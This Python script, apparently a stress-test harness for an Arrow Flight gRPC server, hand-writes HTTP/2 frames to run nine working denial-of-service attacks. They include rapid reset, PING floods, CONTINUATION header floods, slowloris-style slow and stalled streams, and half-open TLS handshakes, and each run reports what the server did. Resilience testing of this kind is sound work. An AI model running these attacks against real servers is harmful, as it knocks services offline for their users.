"""Attacks on a server, each in a process of its own: `python abuse.py ATTACK URL CA TOKEN SIZE SECONDS`.

HTTP/2 is written by hand, since no honest library sends these frames. Each attack says at its end, as one
line of JSON, what it did and what the server did about it.
"""

from __future__ import annotations

import errno
import json
import os
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from typing import TypeAlias

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
SERVICE = "/arrow.flight.protocol.FlightService/"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header in HPACK's plainest form: neither indexed nor compressed."""

    def text(text: bytes) -> bytes:
        if len(text) < 127:
            return bytes([len(text)]) + text
        rest, length = len(text) - 127, b"\x7f"
        while rest >= 128:
            length, rest = length + bytes([rest % 128 + 128]), rest // 128
        return length + bytes([rest]) + text

    return b"\x00" + text(name.encode()) + text(value.encode())


@dataclass
class Target:
    """The server, and the token that the attacker has (or not)."""

    host: str
    port: int
    context: ssl.SSLContext | None
    token: str
    counts: Counter[str] = field(default_factory=Counter)

    def connect(self) -> socket.socket:
        """A connection of HTTP/2 that has sent its preface."""
        connection: socket.socket = socket.create_connection((self.host, self.port), timeout=20)
        if self.context is not None:
            connection = self.context.wrap_socket(connection, server_hostname="localhost")
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.counts["connections"] += 1
        return connection

    def headers(self, call: str, *more: tuple[str, str]) -> bytes:
        fields = [(":method", "POST"), (":scheme", "https"), (":path", SERVICE + call)]
        fields += [(":authority", "localhost"), ("te", "trailers"), ("content-type", "application/grpc")]
        if self.token:
            fields.append(("authorization", f"Bearer {self.token}"))
        return b"".join(literal(*pair) for pair in [*fields, *more])


Send: TypeAlias = Callable[[socket.socket, int], int]


class EndedError(Exception):
    """The server has closed the connection."""


def drain(connection: socket.socket, counts: Counter[str]) -> None:
    """Reads what is there, so that the server is never held up by this side, and counts GOAWAYs."""
    while select.select([connection], [], [], 0)[0] or getattr(connection, "pending", lambda: 0)():
        read = connection.recv(1 << 16)
        if not read:
            raise EndedError
        counts["read"] += len(read)
        if len(read) > 9 and read[3] == GOAWAY:
            counts["goaways"] += 1


def half_open(target: Target, size: int, until: float) -> None:
    """`size` connections at a time that begin to shake hands and stop: a third say nothing, a third a part of
    the first message, a third all of it. One that the server closes is replaced."""
    context = target.context or ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        hello = outgoing.read()
    firsts = [b"", hello[:40], hello]
    poll, connections = select.epoll(), dict[int, tuple[socket.socket, bytes]]()
    while time.monotonic() < until:
        for _ in range(min(200, size - len(connections))):
            connection = socket.socket()
            connection.setblocking(False)
            if connection.connect_ex((target.host, target.port)) not in (0, errno.EINPROGRESS):
                connection.close()
                target.counts["not connected"] += 1
                break
            first = firsts[target.counts["connections"] % 3]
            connections[connection.fileno()] = (connection, first)
            poll.register(connection, select.EPOLLIN | (select.EPOLLOUT if first else 0))
            target.counts["connections"] += 1
        target.counts["most at once"] = max(target.counts["most at once"], len(connections))
        for number, event in poll.poll(0.01, 500):
            connection, first = connections[number]
            ended = bool(event & (select.EPOLLHUP | select.EPOLLERR))
            try:
                if event & select.EPOLLOUT:
                    connection.send(first)
                    poll.modify(number, select.EPOLLIN)
                if event & select.EPOLLIN:
                    ended = not connection.recv(1 << 16) or ended
            except OSError:
                ended = True
            if ended:
                poll.unregister(number)
                connection.close()
                del connections[number]
                target.counts["closed by the server"] += 1


def silent(target: Target, size: int, until: float) -> None:
    """`size` connections that shake hands and then say nothing. One that the server closes is replaced."""
    connections: list[socket.socket] = []
    while time.monotonic() < until:
        if len(connections) < size:
            try:
                connections.append(target.connect())
            except OSError:
                target.counts["refused"] += 1
        for connection in connections[: 1 if len(connections) < size else None]:
            connections.remove(connection)
            try:
                drain(connection, target.counts)
                connections.append(connection)
            except (EndedError, OSError):
                connection.close()
                target.counts["closed by the server"] += 1
        time.sleep(0.05 if len(connections) >= size else 0)
        target.counts["most at once"] = max(target.counts["most at once"], len(connections))


def again_and_again(
    target: Target, size: int, until: float, send: Callable[[socket.socket, int], int]
) -> None:
    """Lets `size` threads send over a connection each, and connect anew when the server has closed it. `send`
    gets the connection and the next stream's number, and gives the one after."""

    def attack() -> None:
        while time.monotonic() < until:
            try:
                with target.connect() as connection:
                    stream = 1
                    while time.monotonic() < until:
                        stream = send(connection, stream)
                        drain(connection, target.counts)
            except (EndedError, OSError):
                target.counts["closed by the server"] += 1

    threads = [threading.Thread(target=attack) for _ in range(size)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def resets(target: Target, size: int, until: float) -> None:
    """Rapid reset: calls that are reset in the same breath, 100 at a time."""
    headers = target.headers("DoAction")

    def send(connection: socket.socket, stream: int) -> int:
        pairs = (
            frame(HEADERS, END_HEADERS, number, headers) + frame(RESET, 0, number, b"\0\0\0\x08")
            for number in range(stream, stream + 200, 2)
        )
        connection.sendall(b"".join(pairs))
        target.counts["resets"] += 100
        return stream + 200

    again_and_again(target, size, until, send)


def paced_resets(target: Target, size: int, until: float) -> None:
    """The same, each call in a breath of its own, so that the server has begun it before it is reset."""
    headers = target.headers("DoGet")

    def send(connection: socket.socket, stream: int) -> int:
        connection.sendall(frame(HEADERS, END_HEADERS, stream, headers))
        time.sleep(0.0005)
        connection.sendall(frame(RESET, 0, stream, b"\0\0\0\x08"))
        target.counts["resets"] += 1
        return stream + 2

    again_and_again(target, size, until, send)


def pings(target: Target, size: int, until: float) -> None:
    """Pings that want answers, 500 at a time."""

    def send(connection: socket.socket, stream: int) -> int:
        connection.sendall(frame(PING, 0, 0, b"12345678") * 500)
        target.counts["pings"] += 500
        return stream

    again_and_again(target, size, until, send)


def headers(target: Target, size: int, until: float) -> None:
    """Calls with 1 MiB of headers, in frames without an end."""
    value = "x" * 15_000

    def send(connection: socket.socket, stream: int) -> int:
        connection.sendall(frame(HEADERS, 0, stream, target.headers("DoAction", ("x-0", value))))
        for number in range(1, 70):
            connection.sendall(frame(CONTINUATION, 0, stream, literal(f"x-{number}", value)))
            target.counts["bytes"] += len(value)
        connection.sendall(frame(CONTINUATION, END_HEADERS, stream, literal("x-end", value)))
        return stream + 2

    again_and_again(target, size, until, send)


def slow(target: Target, size: int, until: float) -> None:
    """`size` connections that ask for `abuse/large` 60 times each, and do not read what comes."""
    ticket = b"\x0a\x0babuse/large"
    message = b"\0" + struct.pack(">I", len(ticket)) + ticket
    window = struct.pack(">HI", 4, (1 << 31) - 1)
    connections = []
    for _ in range(size):
        connection = target.connect()
        connection.sendall(frame(SETTINGS, 0, 0, window))
        for stream in range(1, 121, 2):
            head = frame(HEADERS, END_HEADERS, stream, target.headers("DoGet"))
            connection.sendall(head + frame(DATA, END_STREAM, stream, message))
            target.counts["gets"] += 1
        connections.append(connection)
    while (left := until - time.monotonic()) > 0:
        time.sleep(min(left, 0.2))
        # A few bytes now and then, like a client that is merely slow.
        for connection in connections:
            if select.select([connection], [], [], 0)[0]:
                target.counts["read"] += len(connection.recv(64))


def stalled(target: Target, size: int, until: float) -> None:
    """`size` connections with 60 calls each, of which nearly 1 MiB comes, and the rest never."""
    part = (b"\0" + struct.pack(">I", 8_000_000) + b"x" * ((1 << 20) - 5))[: 1 << 20]
    frames = [part[at : at + (1 << 14)] for at in range(0, len(part), 1 << 14)]

    def send(connection: socket.socket, stream: int) -> int:
        if stream < 120:
            connection.sendall(frame(HEADERS, END_HEADERS, stream, target.headers("DoAction")))
            for data in frames:
                connection.sendall(frame(DATA, 0, stream, data))
                drain(connection, target.counts)
            target.counts["calls"] += 1
            return stream + 2
        time.sleep(0.05)
        return stream

    again_and_again(target, size, until, send)


def begun(target: Target, size: int, until: float) -> None:
    """`size` connections with 64 calls each of which the headers come, and nothing more."""
    connections = []
    for _ in range(size):
        connection = target.connect()
        for stream in range(1, 129, 2):
            connection.sendall(frame(HEADERS, END_HEADERS, stream, target.headers("GetFlightInfo")))
            target.counts["calls"] += 1
        connections.append(connection)
    while time.monotonic() < until:
        time.sleep(0.1)
        for connection in connections:
            with suppress(EndedError, OSError):
                drain(connection, target.counts)


ATTACKS = {
    attack.__name__: attack
    for attack in (half_open, silent, resets, paced_resets, pings, headers, slow, stalled, begun)
}


def main(name: str, url: str, ca: str, token: str, size: str, seconds: str) -> None:
    os.nice(19)  # an attacker computes on other machines; here it must not take the server's processors
    host, port = url.rpartition("://")[2].rsplit(":", 1)
    context = ssl.create_default_context(cafile=ca) if ca else None
    if context is not None:
        context.set_alpn_protocols(["h2"])
    target = Target(host, int(port), context, token)
    ATTACKS[name](target, int(size), time.monotonic() + float(seconds))
    print(json.dumps(target.counts))


if __name__ == "__main__":
    main(*sys.argv[1:])
